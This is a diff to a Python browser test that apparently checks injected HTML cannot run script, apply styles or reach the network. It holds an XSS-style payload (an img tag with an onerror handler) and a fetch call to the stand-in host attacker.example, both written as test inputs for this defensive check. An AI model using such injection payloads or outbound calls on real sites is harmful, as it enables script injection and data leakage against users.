@@ -32,7 +32,9 @@ def test_what_is_injected_into_a_page_does_not_run(page: Page, server: Server, p
     page.goto(server.url + path)
 
     page.evaluate(SCRIPT)
-    page.evaluate(INJECT, "<img src=x onerror='window.injected = true'><p id=tinted style='color: rgb(1, 2, 3)'>a</p>")
+    page.evaluate(
+        INJECT, "<img src=data:, onerror='window.injected = true'><p id=tinted style='color: rgb(1, 2, 3)'>a</p>"
+    )
     told = page.evaluate("() => fetch('http://attacker.example/').then(() => 'sent', error => error.name)")
 
     expect(page.locator("#tinted")).not_to_have_css("color", "rgb(1, 2, 3)")
